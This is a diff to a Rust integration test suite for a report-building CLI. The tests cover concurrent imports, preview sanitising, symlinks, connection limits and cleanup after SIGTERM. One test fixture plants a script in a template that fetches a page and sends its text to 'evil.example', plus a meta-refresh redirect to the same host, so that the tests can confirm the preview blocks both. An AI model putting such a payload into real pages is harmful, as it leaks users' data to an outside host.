@@ -17,6 +17,43 @@ fn report_text(unit: &str) -> String {
 }
 
 #[test]
+fn two_imports_into_one_new_folder_never_both_write() {
+    let tmp = tempfile::tempdir().unwrap();
+    let here = tmp.path();
+    for (n, text) in ["甲", "乙"].iter().enumerate() {
+        fs::write(
+            here.join(format!("in{n}.txt")),
+            format!("{}{text}\n", report_text("某镇")),
+        )
+        .unwrap();
+    }
+    for round in 0..8 {
+        let out = format!("out{round}");
+        let runs: Vec<_> = (0..2)
+            .map(|n| {
+                std::process::Command::new(assert_cmd::cargo::cargo_bin!("report"))
+                    .current_dir(here)
+                    .args(["import", &format!("in{n}.txt"), "--out", &out])
+                    .stdout(std::process::Stdio::null())
+                    .stderr(std::process::Stdio::null())
+                    .spawn()
+                    .unwrap()
+            })
+            .collect();
+        let made = runs
+            .into_iter()
+            .filter_map(|mut c| c.wait().ok())
+            .filter(std::process::ExitStatus::success)
+            .count();
+        assert_eq!(made, 1, "round {round}: {made} imports wrote one folder");
+        assert!(
+            !here.join(&out).join(".report-init").exists(),
+            "the claim is gone"
+        );
+    }
+}
+
+#[test]
 fn import_and_init_write_only_their_own_new_folder() {
     let tmp = tempfile::tempdir().unwrap();
     let here = tmp.path();
@@ -86,7 +123,7 @@ fn unit_with_script(tmp: &Path) -> PathBuf {
     copy_tree(&taian(), &tmp.join("units/other/2020"));
     fs::create_dir_all(unit.join("templates")).unwrap();
     let template = fs::read_to_string(root().join("templates/report.html.j2")).unwrap();
-    let script = "<script>fetch('/u/1/').then(r=>r.text()).then(t=>fetch('http://evil.example/?'+t))</script>";
+    let script = "<script>fetch('/u/1/').then(r=>r.text()).then(t=>fetch('http://evil.example/?'+t))</script><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/?x\">";
     fs::write(
         unit.join("templates/report.html.j2"),
         format!(
@@ -128,6 +165,8 @@ fn the_preview_runs_only_its_own_scripts() {
     assert_eq!(scripts.len(), 4, "two of the unit's");
     // The preview's own head comes before anything of the unit's.
     assert!(body.find(&format!("nonce=\"{nonce}\"")) < body.find("fetch('/u/1/')"));
+    // A refresh would send the page elsewhere with what the template wrote: it is taken out.
+    assert!(!body.to_ascii_lowercase().contains("http-equiv"), "{body}");
 }
 
 /// Sends `bytes` on a fresh connection and reads the answer's first line (empty when the
@@ -183,7 +222,7 @@ fn the_preview_server_is_bounded_in_what_a_client_can_send() {
     assert!(exchange(port, get_with_body).contains("413"));
     // Many idle connections: the ones past the cap are answered 503 at once; the server lives
     // on and answers again when they go.
-    let idle: Vec<TcpStream> = (0..80)
+    let idle: Vec<TcpStream> = (0..300)
         .map(|_| TcpStream::connect(("127.0.0.1", port)).unwrap())
         .collect();
     let refused = idle
@@ -430,6 +469,15 @@ fn templates_are_hashed_as_read_links_included_and_never_in_part() {
         assert!(
             build_md(&unit, &out).starts_with("HEAD-2"),
             "the linked file counts"
+        );
+    }
+    // A link beside the folder it names hides nothing: both names are read.
+    #[cfg(unix)]
+    {
+        std::os::unix::fs::symlink("parts", unit.join("templates/aaa")).unwrap();
+        assert!(
+            build_md(&unit, &out).starts_with("HEAD-2"),
+            "parts/ still read"
         );
     }
     // A templates folder too large to read is refused whole, not hashed in part.
@@ -700,6 +748,52 @@ fn diff_of_a_huge_blob_stops_reading_it() {
     );
 }
 
+#[cfg(target_os = "linux")]
+#[test]
+fn diff_stopped_while_git_runs_leaves_no_folder() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let tmp = tempfile::tempdir().unwrap();
+    let bin = tmp.path().join("bin");
+    fs::create_dir_all(&bin).unwrap();
+    // A git as slow as a large repository: it waits, then does nothing.
+    fs::write(bin.join("git"), "#!/bin/sh\nsleep 3133.5\n").unwrap();
+    fs::set_permissions(bin.join("git"), fs::Permissions::from_mode(0o755)).unwrap();
+    let temp = tmp.path().join("temp");
+    fs::create_dir_all(&temp).unwrap();
+    let path = format!("{}:/usr/bin:/bin", bin.display());
+    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin!("report"))
+        .args(["diff", "HEAD:unit"])
+        .arg(taian())
+        .env("TMPDIR", &temp)
+        .env("PATH", path)
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let began = Instant::now();
+    while !running("3133.5") && began.elapsed() < Duration::from_secs(30) {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert_eq!(
+        fs::read_dir(&temp).unwrap().count(),
+        1,
+        "the revision's folder"
+    );
+    // SAFETY: kill(2) on the pid of a child this test started and has not reaped.
+    unsafe {
+        libc::kill(child.id().cast_signed(), libc::SIGTERM);
+    }
+    let status = child.wait().unwrap();
+    assert_eq!(status.code(), Some(130));
+    assert_eq!(
+        fs::read_dir(&temp).unwrap().count(),
+        0,
+        "temporary folder left"
+    );
+    let _ = std::process::Command::new("pkill")
+        .args(["-f", "3133.5"])
+        .status();
+}
+
 /// A `REPORT_BROWSER` that does not `exec`: a shell that starts a long `sleep` (marked with
 /// `mark`) and waits.
 #[cfg(unix)]
@@ -746,12 +840,17 @@ fn a_browser_never_outlives_its_printing() {
         0,
         "temporary folder left"
     );
-    // SIGTERM while printing: the browser's group is killed and the folder removed.
+    // SIGTERM while several units print: every browser's group is killed and every folder
+    // removed.
     let mark = "3132.5";
     let browser = lingering_browser(tmp.path(), mark);
+    let units = tmp.path().join("units");
+    for n in 0..4 {
+        copy_tree(&taian(), &units.join(format!("u{n}/2020")));
+    }
     let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin!("report"))
         .arg("build")
-        .arg(taian())
+        .arg(&units)
         .args(["--format", "pdf", "--out"])
         .arg(tmp.path().join("out"))
         .env("REPORT_BROWSER", &browser)
